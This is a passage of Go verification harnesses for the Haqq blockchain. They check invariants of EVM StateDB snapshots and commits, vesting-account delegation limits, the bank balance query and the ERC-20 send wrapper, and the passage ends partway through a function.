	_, ok := s.db.journal.dirties[a]
	return ok
}

func (s *sRun) msg(a common.Address, text string) string {
	if s.known(a) {
		return text + " [shape C05-F2: flushed by a mid-transaction Commit inside a frame that later reverted]"
	}
	return text
}

func (s *sRun) nAddrs() int { return zz.ParamInt("addrs", len(sAddrs)) }

func (s *sRun) tag(what string) string {
	s.seq++
	return what + string(rune('a'+s.seq))
}

// frame executes a sequence of operations; an operation may be a nested call frame that returns or reverts.
func (s *sRun) frame(depth int) {
	// the operation kinds of this instance: t(ransfer) s(store) d(estruct) f(rame) c(ommit, what a precompile does first)
	// n(ew account: a contract creation onto the pre-funded address sAddrs[1], which then has no storage)
	kinds := zz.Param("kinds", "tsdf")
	var ops []int
	for i, c := range "tsdfc_n" {
		for _, k := range kinds {
			if k == c {
				ops = append(ops, i)
			}
		}
	}
	ops = append(ops, 5)
	for s.budget > 0 {
		op := ops[zz.Choose(s.tag("op"), len(ops))]
		if op == 5 {
			return // end of this frame's body
		}
		s.budget--
		switch op {
		case 0: // value transfer, as core.CanTransfer / core.Transfer do
			from := sAddrs[zz.Choose(s.tag("from"), s.nAddrs())]
			to := sAddrs[zz.Choose(s.tag("to"), s.nAddrs())]
			amt := big.NewInt(int64(1 + zz.Choose(s.tag("amt"), zz.ParamInt("amts", 2))*4))
			if s.db.GetBalance(from).Cmp(amt) < 0 {
				continue
			}
			s.db.SubBalance(from, amt)
			s.db.AddBalance(to, amt)
			s.ref.bal[from] = new(big.Int).Sub(s.ref.bal[from], amt)
			s.ref.bal[to] = new(big.Int).Add(s.ref.bal[to], amt)
		case 1: // SSTORE
			a := sAddrs[zz.Choose(s.tag("addr"), s.nAddrs())]
			k := sKeys[zz.Choose(s.tag("key"), len(sKeys))]
			v := common.BigToHash(big.NewInt(int64(zz.Choose(s.tag("val"), zz.ParamInt("vals", 3)))))
			if !s.db.Exist(a) || (sHasCreate() && a == sAddrs[1]) {
				continue // only existing accounts (contracts) execute SSTORE; the CREATE target has no storage
			}
			s.db.SetState(a, k, v)
			s.ref.st[a][k] = v
		case 2: // SELFDESTRUCT, as opSelfdestruct does
			a := sAddrs[zz.Choose(s.tag("self"), s.nAddrs())]
			b := sAddrs[zz.Choose(s.tag("beneficiary"), s.nAddrs())]
			if !s.db.Exist(a) {
				continue
			}
			bal := s.db.GetBalance(a)
			s.db.AddBalance(b, bal)
			s.db.Suicide(a)
			s.ref.bal[b] = new(big.Int).Add(s.ref.bal[b], s.ref.bal[a])
			s.ref.bal[a] = new(big.Int)
			s.ref.suicided[a] = true
		case 3: // nested call frame: Snapshot, body, RevertToSnapshot on failure
			if depth >= 2 {
				continue
			}
			id := s.db.Snapshot()
			saved := s.ref.clone()
			logs0, refund0 := len(s.db.Logs()), s.db.GetRefund()
			s.flushes = append(s.flushes, nil)
			s.frame(depth + 1)
			inner := s.flushes[len(s.flushes)-1]
			s.flushes = s.flushes[:len(s.flushes)-1]
			sLast = zz.Choose(s.tag("reverts"), 2)
			if sLast == 0 && len(s.flushes) > 0 {
				// the frame returns normally: its flushes now belong to the enclosing frame
				s.flushes[len(s.flushes)-1] = append(s.flushes[len(s.flushes)-1], inner...)
			} else if len(inner) >= 0 && s.lastChoice() == 1 {
				for _, a := range inner {
					s.flushedThenReverted[a] = true
				}
			}
			if s.lastChoice() == 1 {
				s.db.RevertToSnapshot(id)
				s.ref = saved
				// C05, in-memory part: every getter answers as at Snapshot() time
				for _, a := range sAddrs {
					zz.Assert(s.db.GetBalance(a).Cmp(s.ref.bal[a]) == 0, s.msg(a, "after a revert balances are as at the snapshot"))
					zz.Assert(s.db.HasSuicided(a) == s.ref.suicided[a], "after a revert the self-destruct marks are as at the snapshot")
					for _, k := range sKeys {
						zz.Assert(s.db.GetState(a, k) == s.ref.st[a][k], s.msg(a, "after a revert storage is as at the snapshot"))
					}
				}
				zz.Assert(len(s.db.Logs()) == logs0 && s.db.GetRefund() == refund0, "after a revert logs and refund counter are as at the snapshot")
				zz.Reach("reverted-frame")
			}
		case 6: // evm.create onto an address that already holds coins (a predictable CREATE2 address somebody funded): CreateAccount
			// replaces the state object and carries the balance over; the value transfer to it is an ordinary t operation
			a := sAddrs[1]
			if !s.db.Exist(a) || s.db.HasSuicided(a) {
				continue
			}
			s.db.CreateAccount(a)
		case 4: // what every stateful precompile does first: flush the cached EVM state to the stores
			for _, a := range sAddrs {
				if s.dirty(a) {
					if len(s.flushes) > 0 {
						s.flushes[len(s.flushes)-1] = append(s.flushes[len(s.flushes)-1], a)
					}
					if s.db.HasSuicided(a) {
						s.deletedMidTx[a] = true
					}
				}
			}
			if err := s.db.Commit(); err != nil {
				panic(err)
			}
		}
	}
}

var sLast int

func (s *sRun) lastChoice() int { return sLast }

func sHasCreate() bool {
	for _, k := range zz.Param("kinds", "tsdf") {
		if k == 'n' {
			return true
		}
	}
	return false
}

func sSetup() (*sRun, *sLedger, *big.Int) {
	l := newLedger()
	ref := &sRef{bal: map[common.Address]*big.Int{}, st: map[common.Address]map[common.Hash]common.Hash{}, suicided: map[common.Address]bool{}}
	for i, a := range sAddrs {
		ref.st[a] = map[common.Hash]common.Hash{}
		ref.bal[a] = new(big.Int)
		if i < 2 { // two existing funded accounts, one fresh address
			bal := big.NewInt(int64(10 * (i + 1)))
			l.acct[a] = &Account{Balance: bal, CodeHash: emptyCodeHash}
			l.supply.Add(l.supply, bal)
			ref.bal[a] = new(big.Int).Set(bal)
			if sHasCreate() && i == 1 {
				continue // the CREATE target: funded, no storage
			}
			l.storage[a] = map[common.Hash]common.Hash{sKeys[0]: common.BigToHash(big.NewInt(1))}
			ref.st[a][sKeys[0]] = common.BigToHash(big.NewInt(1))
		}
	}
	db := New(sdk.Context{}, l, NewEmptyTxConfig(common.Hash{}))
	return &sRun{db: db, ref: ref, budget: zz.ParamInt("ops", 3), flushedThenReverted: map[common.Address]bool{}, deletedMidTx: map[common.Address]bool{}}, l, new(big.Int).Set(l.supply)
}

// VerifC05_StateDB: bounded programs of state operations with nested, possibly reverting frames; after the final Commit the
// ledger holds exactly what the reference semantics says - nothing of a reverted frame survives, supply is conserved up to
// the self-destruct burn.
func VerifC05_StateDB() {
	s, l, supply0 := sSetup()
	s.frame(0)
	if err := s.db.Commit(); err != nil {
		panic(err)
	}
	remaining := new(big.Int)
	for _, a := range sAddrs {
		if s.ref.suicided[a] {
			// a self-destructed account is deleted at commit; whatever it holds then is destroyed (Ethereum semantics)
			_, still := l.acct[a]
			zz.Assert(!still, "a self-destructed account is removed at commit")
			continue
		}
		got := new(big.Int)
		if acc, ok := l.acct[a]; ok {
			got = acc.Balance
		}
		remaining.Add(remaining, s.ref.bal[a])
		zz.Assert(got.Cmp(s.ref.bal[a]) == 0, s.msg(a, "committed balance = balance before + received - paid (no trace of reverted frames)"))
		for _, k := range sKeys {
			zz.Assert(l.storage[a][k] == s.ref.st[a][k], s.msg(a, "committed storage holds exactly the surviving writes"))
		}
	}
	anyKnown := false
	for _, a := range sAddrs {
		anyKnown = anyKnown || s.known(a)
	}
	suffix := ""
	if anyKnown {
		suffix = " [shape C05-F2: flushed by a mid-transaction Commit inside a frame that later reverted]"
	}
	zz.Assert(l.supply.Cmp(remaining) == 0, "total supply = sum of the surviving balances (only self-destructed accounts' coins are destroyed)"+suffix)
	zz.Assert(l.supply.Cmp(supply0) <= 0, "EVM execution never mints"+suffix)
	zz.Reach("end")
}

// VerifC01_CommitOrder: the sequence of keeper writes issued by Commit is the same for every iteration order of the
// dirty-account and dirty-storage maps (explored exhaustively), namely ascending by full address and by storage key.
func VerifC01_CommitOrder() {
	s, l, _ := sSetup()
	s.frame(0)
	zz.MapOrder(true)
	if err := s.db.Commit(); err != nil {
		panic(err)
	}
	zz.MapOrder(false)
	prev := ""
	for _, e := range l.trace {
		// "<address> <op> [key]": one account's entries stay together, accounts ascend, and within an account
		// SetAccount precedes its SetState entries which ascend by key
		zz.Assert(prev == "" || prev < e || prev[:42] < e[:42], "Commit writes in ascending address / storage key order whatever the map iteration order")
		zz.Assert(prev == "" || prev[:42] <= e[:42], "accounts are committed in ascending order of the full 20-byte address")
		prev = e
	}
	zz.Reach("end")
}

// VerifC10_NestedWriteSurvivesCommit: inside one Ethereum transaction a precompile first flushes the StateDB (Commit) and
// then runs Cosmos-side code that may itself execute the EVM on the same stores - the ICS-20 precompile reaching the
// automatic ERC20 -> coin conversion debits the token's balance and supply slots that way. A slot the outer execution had
// written before the flush, and does not write again afterwards, must end the transaction with the value the nested
// execution left in the store: the final Commit may not write the stale cached value back over it.
func VerifC10_NestedWriteSurvivesCommit() {
	l := newLedger()
	a := sAddrs[0]
	l.acct[a] = &Account{Balance: new(big.Int), CodeHash: emptyCodeHash}
	val := func(tag string) common.Hash { return common.BigToHash(big.NewInt(int64(zz.Choose(tag, 4)))) }
	v0, v1, v2 := val("stored"), val("writtenBeforeFlush"), val("writtenByNestedExecution")
	k, other := sKeys[0], sKeys[1]
	l.storage[a] = map[common.Hash]common.Hash{k: v0}
	db := New(sdk.Context{}, l, NewEmptyTxConfig(common.Hash{}))
	db.SetState(a, k, v1) // e.g. token.burn(1) by the calling contract
	if err := db.Commit(); err != nil { // the precompile's leading flush
		panic(err)
	}
	zz.Assert(l.storage[a][k] == v1, "the flush writes the slot")
	l.SetState(sdk.Context{}, a, k, v2.Bytes()) // the nested conversion writes the same slot through the keeper
	if zz.AnyBool("outerWritesAnotherSlotAfterwards") {
		db.SetState(a, other, val("otherSlot"))
	}
	rewrites := zz.AnyBool("outerWritesTheSlotAgain")
	v3 := val("writtenAfterwards")
	if rewrites {
		db.SetState(a, k, v3)
	}
	if err := db.Commit(); err != nil { // end of the transaction
		panic(err)
	}
	if rewrites && v3 != v1 {
		zz.Assert(l.storage[a][k] == v3, "a later write of the outer execution wins")
		zz.Reach("?rewritten")
	} else if !rewrites {
		zz.Assert(l.storage[a][k] == v2, "a slot flushed mid-transaction and not written again keeps the value the nested execution left in the store")
		zz.Reach("kept")
	}
	zz.Reach("end")
}


// VerifC10_WriteSurvivesInnerRevert: the EVM hook mints coins from the Transfer log of a registered token; the storage write
// behind that log has to persist. An outer frame writes a slot of the token contract (the transfer to the module), a later
// inner frame writes slots of the same contract and reverts, the caller swallows the revert, nothing else touches the
// contract: after the final Commit the outer write is in the store.
func VerifC10_WriteSurvivesInnerRevert() {
	l := newLedger()
	token := sAddrs[0]
	l.acct[token] = &Account{Balance: new(big.Int), CodeHash: emptyCodeHash}
	l.storage[token] = map[common.Hash]common.Hash{sKeys[0]: common.BigToHash(big.NewInt(100)), sKeys[1]: common.BigToHash(big.NewInt(7))}
	db := New(sdk.Context{}, l, NewEmptyTxConfig(common.Hash{}))
	outer := common.BigToHash(big.NewInt(int64(70 + zz.Choose("outerValue", 2))))
	db.SetState(token, sKeys[0], outer) // balanceOf(sender) after the transfer to the module
	n := 1 + zz.Choose("innerFrames", 2)
	for i := 0; i < n; i++ {
		id := db.Snapshot()
		db.SetState(token, sKeys[zz.Choose("innerSlot"+string(rune('0'+i)), 2)], common.BigToHash(big.NewInt(int64(3+i))))
		if zz.Choose("innerReverts"+string(rune('0'+i)), 2) == 1 {
			db.RevertToSnapshot(id)
			zz.Reach("inner-reverted")
		} else {
			zz.Reach("?inner-returned")
			return // an inner frame that returns keeps its writes: VerifC05_StateDB's subject
		}
	}
	if err := db.Commit(); err != nil {
		panic(err)
	}
	zz.Assert(l.storage[token][sKeys[0]] == outer, "a write made before an inner frame that reverted is persisted by the final Commit")
	zz.Assert(l.storage[token][sKeys[1]] == common.BigToHash(big.NewInt(7)), "nothing of the reverted inner frame is persisted")
	zz.Reach("end")
}
