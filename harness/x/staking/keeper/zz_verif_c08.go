package keeper

// Harness for property C08 (unvested coins cannot be delegated): the staking message-server wrapper.

import (
	"context"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	"github.com/cosmos/cosmos-sdk/x/staking/types"

	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).BondDenom -> c08BondDenom

func c08BondDenom(k sdkstakingkeeper.Keeper, ctx sdk.Context) string { return "aISLM" }

type c08AK struct{ acc authtypes.AccountI }

func (a c08AK) IterateAccounts(ctx sdk.Context, process func(authtypes.AccountI) (stop bool)) {}
func (a c08AK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	if a.acc != nil && a.acc.GetAddress().Equals(addr) {
		return a.acc
	}
	return nil
}
func (a c08AK) GetModuleAddress(name string) sdk.AccAddress { return authtypes.NewModuleAddress(name) }
func (a c08AK) GetModuleAccount(ctx sdk.Context, moduleName string) authtypes.ModuleAccountI {
	return nil
}
func (a c08AK) SetModuleAccount(sdk.Context, authtypes.ModuleAccountI) {}

type c08BK struct{ bal sdkmath.Int }

func (b c08BK) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b c08BK) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	if denom != "aISLM" {
		return sdk.NewCoin(denom, sdkmath.ZeroInt())
	}
	return sdk.NewCoin(denom, b.bal)
}
func (b c08BK) LockedCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins    { panic("not used") }
func (b c08BK) SpendableCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b c08BK) GetSupply(ctx sdk.Context, denom string) sdk.Coin               { panic("not used") }
func (b c08BK) SendCoinsFromModuleToModule(ctx sdk.Context, senderPool, recipientPool string, amt sdk.Coins) error {
	panic("not used")
}
func (b c08BK) UndelegateCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, recipientAddr sdk.AccAddress, amt sdk.Coins) error {
	panic("not used")
}
func (b c08BK) DelegateCoinsFromAccountToModule(ctx sdk.Context, senderAddr sdk.AccAddress, recipientModule string, amt sdk.Coins) error {
	panic("not used")
}
func (b c08BK) BurnCoins(ctx sdk.Context, name string, amt sdk.Coins) error { panic("not used") }

// c08Inner records what reaches the SDK's own staking message server.
type c08Inner struct {
	delegated *sdkmath.Int
	created   *sdkmath.Int
}

func (s *c08Inner) CreateValidator(ctx context.Context, m *types.MsgCreateValidator) (*types.MsgCreateValidatorResponse, error) {
	a := m.Value.Amount
	s.created = &a
	return &types.MsgCreateValidatorResponse{}, nil
}
func (s *c08Inner) EditValidator(context.Context, *types.MsgEditValidator) (*types.MsgEditValidatorResponse, error) {
	panic("not used")
}
func (s *c08Inner) Delegate(ctx context.Context, m *types.MsgDelegate) (*types.MsgDelegateResponse, error) {
	a := m.Amount.Amount
	s.delegated = &a
	return &types.MsgDelegateResponse{}, nil
}
func (s *c08Inner) BeginRedelegate(context.Context, *types.MsgBeginRedelegate) (*types.MsgBeginRedelegateResponse, error) {
	panic("not used")
}
func (s *c08Inner) Undelegate(context.Context, *types.MsgUndelegate) (*types.MsgUndelegateResponse, error) {
	panic("not used")
}
func (s *c08Inner) CancelUnbondingDelegation(context.Context, *types.MsgCancelUnbondingDelegation) (*types.MsgCancelUnbondingDelegationResponse, error) {
	panic("not used")
}
func (s *c08Inner) UpdateParams(context.Context, *types.MsgUpdateParams) (*types.MsgUpdateParamsResponse, error) {
	panic("not used")
}

// VerifC08_Delegate: a delegation (or validator self-bond) by a clawback vesting account reaches the staking module only if
// amount <= max(balance - unvested(t), 0); other accounts pass through untouched.
func VerifC08_Delegate() {
	env := zz.NewEnv([]string{"staking"}, nil)
	addr := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	funder := sdk.AccAddress([]byte{2, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	start := zz.AnyInt64In("start", 0, 1<<60)
	now := zz.AnyInt64In("now", 0, 1<<61)
	nv := zz.ParamInt("nv", 2)
	vp := make(sdkvesting.Periods, 0, nv)
	total := sdk.NewCoins()
	unvestedRef := sdkmath.ZeroInt()
	end := start
	for i := 0; i < nv; i++ {
		p := sdkvesting.Period{Length: zz.AnyInt64In("V"+string(rune('0'+i))+".len", 0, 1<<56), Amount: zz.AnyCoins("V"+string(rune('0'+i))+".amt", 100, "aISLM")}
		vp = append(vp, p)
		total = total.Add(p.Amount...)
		end += p.Length
		// reference: a period is unvested unless it ended by now (and now is after the start)
		unvestedRef = unvestedRef.Add(zz.IteInt(zz.And(end <= now, now > start), sdkmath.ZeroInt(), p.Amount.AmountOf("aISLM")))
	}
	lp := sdkvesting.Periods{{Length: zz.AnyInt64In("lockLen", 0, 1<<56), Amount: total}}
	var acc authtypes.AccountI
	isVesting := zz.Choose("accountKind", 2) == 0
	if isVesting {
		acc = vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(addr), funder, total, time.Unix(start, 0), lp, vp, nil)
	} else {
		acc = authtypes.NewBaseAccountWithAddress(addr)
	}
	bank := c08BK{bal: zz.AnyAmount("balance", 110)}
	ak := c08AK{acc: acc}
	inner := &c08Inner{}
	sk := &sdkstakingkeeper.Keeper{}
	if zz.Native() {
		sk = sdkstakingkeeper.NewKeeper(zz.Codec(), env.Key("staking"), ak, bank, authtypes.NewModuleAddress("gov").String())
		p := types.DefaultParams()
		p.BondDenom = "aISLM"
		if err := sk.SetParams(env.Ctx, p); err != nil {
			panic(err)
		}
	}
	srv := msgServer{MsgServer: inner, Keeper: &Keeper{Keeper: sk, ak: ak, bk: bank}}
	ctx := env.Ctx.WithBlockTime(time.Unix(now, 0))
	amount := zz.AnyAmount("amount", 110)
	var err error
	var reached *sdkmath.Int
	if zz.Choose("message", 2) == 0 {
		_, err = srv.Delegate(sdk.WrapSDKContext(ctx), &types.MsgDelegate{DelegatorAddress: addr.String(), ValidatorAddress: "v", Amount: sdk.NewCoin("aISLM", amount)})
		reached = inner.delegated
	} else {
		_, err = srv.CreateValidator(sdk.WrapSDKContext(ctx), &types.MsgCreateValidator{DelegatorAddress: addr.String(), ValidatorAddress: "v", Value: sdk.NewCoin("aISLM", amount)})
		reached = inner.created
	}
	if err != nil {
		zz.Assert(reached == nil, "a rejected delegation never reaches the staking module")
		zz.Assert(isVesting, "only clawback vesting accounts are restricted by the wrapper")
		zz.Reach("rejected")
		return
	}
	zz.Assert(reached != nil && reached.Equal(amount), "an accepted delegation reaches the staking module unchanged")
	if isVesting {
		avail := sdkmath.MaxInt(bank.bal.Sub(unvestedRef), sdkmath.ZeroInt())
		zz.Assert(amount.LTE(avail), "unvested coins cannot be delegated: amount <= max(balance - unvested, 0)")
		zz.Reach("vesting-accepted")
	}
	zz.Reach("end")
}
