package keeper

// Harness for property C14 as clients observe it: "the distribution module account holds the matching coins" is read through
// the chain's bank Query/AllBalances, which Haqq wraps to add the ERC-20 side of every enabled token pair to the native
// balance. Whatever mix of native coins and tokens an account holds (anybody can send tokens of a registered pair to a
// module account's hex address), the answer is a valid coin set whose amount per denomination is native + tokens.

import (
	"context"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c14qBank struct {
	bankkeeper.Keeper
	native sdk.Coins
}

func (b c14qBank) AllBalances(ctx context.Context, req *banktypes.QueryAllBalancesRequest) (*banktypes.QueryAllBalancesResponse, error) {
	return &banktypes.QueryAllBalancesResponse{Balances: b.native}, nil
}

type c14qEK struct {
	c10sEK
	pairs  []erc20types.TokenPair
	tokens map[string]*big.Int // contract -> token balance of the queried account
}

func (e c14qEK) IsERC20Enabled(ctx sdk.Context) bool { return true }
func (e c14qEK) IterateTokenPairs(ctx sdk.Context, cb func(tokenPair erc20types.TokenPair) (stop bool)) {
	for _, p := range e.pairs {
		if cb(p) {
			return
		}
	}
}
func (e c14qEK) BalanceOf(ctx sdk.Context, a abi.ABI, contract, account common.Address) *big.Int {
	return e.tokens[contract.Hex()]
}

func VerifC14_AllBalancesQuery() {
	env := zz.NewEnv([]string{"bank"}, nil)
	acct := sdk.AccAddress([]byte{9, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	denoms := []string{"aISLM", "acoin"}
	contracts := []common.Address{common.HexToAddress("0xE000000000000000000000000000000000000001"), common.HexToAddress("0xE000000000000000000000000000000000000002")}
	native := sdk.NewCoins()
	ek := c14qEK{tokens: map[string]*big.Int{}}
	want := map[string]sdk.Int{}
	for i, d := range denoms {
		n := zz.AnyAmount("native."+d, 100)
		native = native.Add(sdk.NewCoin(d, n))
		want[d] = n
		if zz.AnyBool("pair." + d) {
			enabled := zz.AnyBool("pairEnabled." + d)
			t := zz.AnyBigAmount("tokens."+d, 100)
			ek.pairs = append(ek.pairs, erc20types.TokenPair{Erc20Address: contracts[i].Hex(), Denom: d, Enabled: enabled, ContractOwner: erc20types.OWNER_MODULE})
			ek.tokens[contracts[i].Hex()] = t
			if enabled {
				want[d] = n.Add(sdk.NewIntFromBigInt(t))
			}
		}
	}
	k := WrappedBaseKeeper{Keeper: c14qBank{native: native}, ek: ek}
	res, err := k.AllBalances(sdk.WrapSDKContext(env.Ctx), &banktypes.QueryAllBalancesRequest{Address: acct.String()})
	if err != nil {
		panic(err)
	}
	zz.Assert(res.Balances.IsValid() || len(res.Balances) == 0, "the reported balances are a valid coin set: sorted, positive, one entry per denomination")
	for _, d := range denoms {
		zz.Assert(res.Balances.AmountOf(d).Equal(want[d]), "the reported amount of every denomination is the native balance plus the tokens of its enabled pair")
	}
	zz.Reach("end")
}
