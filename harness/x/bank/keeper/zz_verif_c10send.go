package keeper

// Harness for property C10 at the bank MsgSend wrapper: sending a coin whose token pair is registered and enabled moves the
// ERC20 tokens (after converting the sender's spendable coins). For a pair whose contract is foreign code (ERC20-origin)
// the wrapper must not trust it: the send succeeds only if the receiver's token balance grew by exactly the amount and the
// token emitted no Approval event - "credits exactly the same amount or fails".

import (
	"context"
	"errors"
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/ethereum/go-ethereum/accounts/abi.ABI).UnpackIntoInterface -> c10sUnpackInto

var c10s struct {
	balanceAnswers []*big.Int // what successive balanceOf calls report
	nBalance       int
	returns        bool
	approval       bool
	transferCalls  int
	converted      int
	pair           *erc20types.TokenPair // the registered pair GetTokenPair answers with (nil: none)
}

func c10sUnpackInto(a abi.ABI, v interface{}, name string, data []byte) error {
	if r, ok := v.(*erc20types.ERC20BoolResponse); ok {
		r.Value = c10s.returns
		return nil
	}
	return errors.New("unpack into " + name)
}

// c10sBank: the SDK bank keeper behind the wrapper, as far as the send path uses it.
type c10sBank struct {
	bankkeeper.Keeper
	spendable sdkmath.Int
}

func (b c10sBank) LockedCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { return sdk.NewCoins() }
func (b c10sBank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.spendable)
}

// c10sEK: the erc20 keeper; the token contract behind it answers whatever it likes.
type c10sEK struct{}

func (c10sEK) IsERC20Enabled(ctx sdk.Context) bool                  { return true }
func (c10sEK) GetTokenPairID(ctx sdk.Context, token string) []byte  { return []byte{1} }
func (c10sEK) GetTokenPairs(ctx sdk.Context) []erc20types.TokenPair { return nil }
func (c10sEK) IterateTokenPairs(ctx sdk.Context, cb func(tokenPair erc20types.TokenPair) (stop bool)) {
}
func (c10sEK) GetTokenPair(ctx sdk.Context, id []byte) (erc20types.TokenPair, bool) {
	if c10s.pair != nil {
		return *c10s.pair, true
	}
	return erc20types.TokenPair{}, false
}
func (c10sEK) BalanceOf(ctx sdk.Context, a abi.ABI, contract, account common.Address) *big.Int {
	v := c10s.balanceAnswers[c10s.nBalance]
	c10s.nBalance++
	return v
}
func (c10sEK) ConvertCoin(goCtx context.Context, msg *erc20types.MsgConvertCoin) (*erc20types.MsgConvertCoinResponse, error) {
	c10s.converted++
	return &erc20types.MsgConvertCoinResponse{}, nil
}
func (c10sEK) CallEVM(ctx sdk.Context, a abi.ABI, from, contract common.Address, commit bool, method string, args ...interface{}) (*evmtypes.MsgEthereumTxResponse, error) {
	c10s.transferCalls++
	res := &evmtypes.MsgEthereumTxResponse{Ret: []byte{1}}
	if c10s.approval {
		res.Logs = []*evmtypes.Log{{Address: contract.Hex(), Topics: []string{"0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925"}}}
	}
	return res, nil
}

func VerifC10_BankSendWrapper() {
	env := zz.NewEnv([]string{"bank"}, nil)
	from := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	to := sdk.AccAddress([]byte{2, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	erc20Origin := zz.AnyBool("pairIsErc20Origin")
	pair := erc20types.TokenPair{Erc20Address: "0xE000000000000000000000000000000000000001", Denom: "erc20/0xE000000000000000000000000000000000000001", Enabled: true, ContractOwner: erc20types.OWNER_MODULE}
	if erc20Origin {
		pair.ContractOwner = erc20types.OWNER_EXTERNAL
	}
	amt := zz.AnyAmount("amount", 100)
	zz.Assume(amt.IsPositive())
	senderTokens := zz.AnyBigAmount("token.senderBefore", 100)
	before := zz.AnyBigAmount("token.receiverBefore", 100)
	after := zz.AnyBigAmount("token.receiverAfter", 101)
	c10s.balanceAnswers, c10s.nBalance = []*big.Int{senderTokens, before, after}, 0
	c10s.returns, c10s.approval = zz.AnyBool("transferReturns"), zz.AnyBool("emitsApproval")
	c10s.transferCalls, c10s.converted = 0, 0
	k := msgServer{WrappedBaseKeeper{Keeper: c10sBank{spendable: zz.AnyAmount("coins.senderSpendable", 100)}, ek: c10sEK{}}}
	err := k.subUnlockedERC20Tokens(env.Ctx, pair, from, to, sdk.NewCoin(pair.Denom, amt))
	if err != nil {
		zz.Reach("refused")
		return
	}
	zz.Assert(c10s.transferCalls == 1, "a successful send transferred the tokens once")
	if erc20Origin {
		zz.Assert(new(big.Int).Sub(after, before).Cmp(amt.BigInt()) == 0, "a send through a foreign token succeeds only if the receiver was credited exactly the amount")
		zz.Assert(!c10s.approval, "a send during which the foreign token emitted an Approval event is refused")
		zz.Assert(c10s.returns, "a send whose transfer() returned false is refused")
		zz.Reach("?erc20-origin-accepted")
	}
	zz.Reach("end")
}

// c10sAK: the account keeper behind the wrapper.
type c10sAK struct{ accs map[string]authtypes.AccountI }

func (a *c10sAK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	return a.accs[string(addr)]
}
func (a *c10sAK) HasAccount(ctx sdk.Context, addr sdk.AccAddress) bool {
	_, ok := a.accs[string(addr)]
	return ok
}
func (a *c10sAK) SetAccount(ctx sdk.Context, acc authtypes.AccountI) {
	a.accs[string(acc.GetAddress())] = acc
}
func (a *c10sAK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	return authtypes.NewBaseAccount(addr, nil, 99, 0) // a brand-new account: next account number, sequence 0, no key
}

func (b c10sBank) SendCoins(ctx sdk.Context, from, to sdk.AccAddress, amt sdk.Coins) error {
	return nil
}

// VerifC03_BankSendKeepsRecipientAccount: receiving a coin through the bank send wrapper (the ERC20-pair path creates the
// recipient's account when it does not exist) never touches an account that does exist: its sequence - the replay counter
// of every Ethereum and Cosmos transaction it has signed - its account number and its key stay as they were.
func VerifC03_BankSendKeepsRecipientAccount() {
	env := zz.NewEnv([]string{"bank"}, nil)
	from := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	to := sdk.AccAddress([]byte{2, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	pair := erc20types.TokenPair{Erc20Address: "0xE000000000000000000000000000000000000001", Denom: "acoin", Enabled: true, ContractOwner: erc20types.OWNER_MODULE}
	c10s.pair = &pair
	amt := zz.AnyAmount("amount", 64)
	zz.Assume(amt.IsPositive())
	before := zz.AnyBigAmount("token.receiverBefore", 64)
	// an honest token: the sender holds enough tokens, the receiver is credited exactly the amount
	c10s.balanceAnswers, c10s.nBalance = []*big.Int{new(big.Int).Lsh(big.NewInt(1), 100), before, new(big.Int).Add(before, amt.BigInt())}, 0
	c10s.returns, c10s.approval, c10s.transferCalls, c10s.converted = true, false, 0, 0
	ak := &c10sAK{accs: map[string]authtypes.AccountI{}}
	exists := zz.AnyBool("recipientExists")
	seq, num := zz.AnyUint64("recipient.sequence"), zz.AnyUint64("recipient.accountNumber")
